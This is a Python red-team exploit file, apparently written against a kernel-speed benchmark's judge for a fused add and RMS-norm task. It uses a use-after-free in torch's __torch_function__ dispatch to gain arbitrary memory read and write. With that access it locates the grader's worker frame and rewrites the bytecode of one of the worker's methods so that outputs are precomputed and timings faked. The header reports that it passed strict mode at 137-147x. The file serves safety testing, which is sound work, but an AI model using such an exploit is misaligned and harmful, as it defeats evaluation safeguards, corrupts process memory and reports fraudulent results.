# Eleventh session's second red team (2026-12-07, CPU judge, before the fixes named below): passed strict at 137-147x, 5/5 correct, 3 runs, no finding (this file returns zeros unless the worker answered).
# Stopped statically (torch's private names below its public modules: torch.masked.maskedtensor._ops_refs;
# torch.masked) and at run time (worker._UNAUDITED_REACH: MaskedTensor's hooks refuse).
# Strict-mode raw memory through torch's __torch_function__ dispatch (see report):
# torch's handle_torch_function keeps the overloaded arguments it collected as borrowed
# pointers; the first handler (a MaskedTensor function-table entry) empties the argument list,
# freeing the next overloaded argument, and refills its 80-byte block with a bytearray buffer
# forging an instance of an nn.Module subclass (refcount 0); torch's look-up of
# __torch_function__ on it falls to nn.Module.__getattr__, whose frame takes and drops a
# reference: the forged object is deallocated, its __del__ gets it, and rewriting the bytearray
# turns it into a bytearray spanning the address space.
import struct

import torch
import torch.masked
from torch.masked.maskedtensor._ops_refs import _MASKEDTENSOR_FUNCTION_TABLE as T

state = {"done": False, "ok": False, "pre": [], "err": ""}
keep = []


class K(torch.nn.Module):
    def __del__(self):
        state["obj"] = self


def first(*args, **kwargs):
    args[0].clear()  # frees the UninitializedBuffer whose pointer torch still holds
    buf = bytearray(state["payload"])  # its buffer lands in the freed 80-byte block
    keep.append(buf)
    state["buf"] = buf
    return NotImplemented


def attack():
    T[torch.cat] = first
    # managed-dict pre-header (16), GC header (16), refcnt 0, type K, weakref list 0
    state["payload"] = struct.pack("<QQQQQQQ", 0, 0, 0, 0, 0, id(K), 0) + bytes(79 - 56)
    mt = torch.masked.masked_tensor(torch.ones(2), torch.ones(2, dtype=torch.bool))
    L = [mt, torch.nn.UninitializedBuffer()]
    try:
        torch.cat(L)
    except Exception:
        pass
    obj = state.get("obj")
    if obj is None:
        return False
    keep.append(obj)
    buf = state["buf"]
    buf[32:79] = struct.pack("<QQqqQQ", 1 << 40, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0)[:47]
    if type(obj) is not bytearray:
        return False
    state["mem"] = obj
    return True



def rd(a):
    return int.from_bytes(state["mem"][a:a + 8], "little")


def wr(a, v):
    state["mem"][a:a + 8] = (v & ((1 << 64) - 1)).to_bytes(8, "little")


def forge(addr):
    holder = [None]
    keep.append(holder)
    wr(rd(id(holder) + 24), addr)
    wr(addr, rd(addr) + 1)
    return holder[0]


def name_is(code, text):
    name = rd(code + 120)
    mem = state["mem"]
    return rd(name + 16) == len(text) and bytes(mem[name + 48:name + 48 + len(text)]) == text


def find_worker():
    interp = rd(id(int) + 1009760 + 40)
    ts = rd(interp + 16)
    while ts:
        cf = rd(ts + 56)
        fr = rd(cf + 8) if cf else 0
        while fr:
            if name_is(rd(fr + 32), b"_call"):
                return rd(fr + 72)
            fr = rd(fr + 48)
        ts = rd(ts + 8)
    return 0


def tmpl(self):
    s = "S"
    s[0](s[1], s[2], out=s[3])
    s[4].append(s[5](s[3], s[6], s[7], 1e-05))


def install(x, residual, weight):
    w_addr = find_worker()
    if not w_addr:
        return "no worker"
    worker = forge(w_addr)
    snap = worker._state
    bound = snap.changed
    keep.append(bound)
    target = rd(rd(id(bound) + 16) + 48)
    src = rd(id(tmpl) + 48)
    if rd(src + 16) > rd(target + 16):
        return "template too big %d > %d" % (rd(src + 16), rd(target + 16))
    tmp = torch.empty_like(x)
    st = [torch.add, x, residual, tmp, state["pre"], torch.rms_norm, (x.shape[-1],), weight]
    consts = forge(rd(src + 24))
    new = tuple(st if (type(c) is str and c == "S") else c for c in consts)
    keep.extend([st, new, consts, tmpl])
    mem = state["mem"]
    n = 2 * rd(src + 16)
    keep_ptrs = {112: rd(target + 112), 120: rd(target + 120), 128: rd(target + 128), 144: rd(target + 144)}
    mem[target + 24:target + 184 + n] = bytes(mem[src + 24:src + 184 + n])
    wr(target + 16, rd(src + 16))
    wr(target + 24, id(new))
    for off, v in keep_ptrs.items():
        wr(target + off, v)
    wr(target + 152, 0)
    wr(target + 160, 0)
    wr(target + 176, 0)
    return "ok"


def honest(x, residual, weight):
    return torch.rms_norm(x + residual, (x.shape[-1],), weight, 1e-05)


def solve(x, residual, weight):
    if not state["done"]:
        state["done"] = True
        state["ok"] = attack()
        if state["ok"]:
            state["err"] = install(x, residual, weight)
        return honest(x, residual, weight)
    pre = state["pre"]
    if pre:
        out = pre[-1]
        pre.clear()
        return out
    return torch.zeros_like(x)  # never reached if the main thread precomputed
